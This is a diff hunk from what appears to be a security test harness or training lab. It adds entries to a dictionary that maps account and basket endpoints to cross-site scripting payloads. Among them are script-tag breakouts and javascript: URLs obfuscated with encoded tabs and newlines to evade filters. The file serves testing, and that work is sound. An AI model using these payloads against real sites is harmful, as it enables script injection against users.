@@ -62,6 +62,9 @@ EXPLOITS: dict[str, tuple[str, ...]] = {
     "/basket/notice item": ("');alert(1);//", "'-alert(1)-'", "'+alert(1)+'"),
     "/account/motto motto": ("</script><script>alert(1)</script>", "</script><img src=x onerror=alert(1)>",
                              "</SCRIPT ><svg onload=alert(1)>"),
+    "/account/toast toast": ("'-alert`1`-'", "';alert`1`;'", "'||alert`1`||'"),
+    "/account/pennant pennant": ("<iframe src=javas&Tab;cript:alert(1)>", "<a href=javas&#9;cript:alert(1)>x</a>",
+                                 "<form action=javas&NewLine;cript:alert(1)><button>x</button></form>"),
     "/account/nickname nick": ("\\';alert(1);//", "\\'-alert(1)//", "\\'||alert(1)//"),
     "/account/signature line": ("'-alert(1)-'", "';alert(1);//", "'+alert(1)+'"),
 }  # fmt: skip
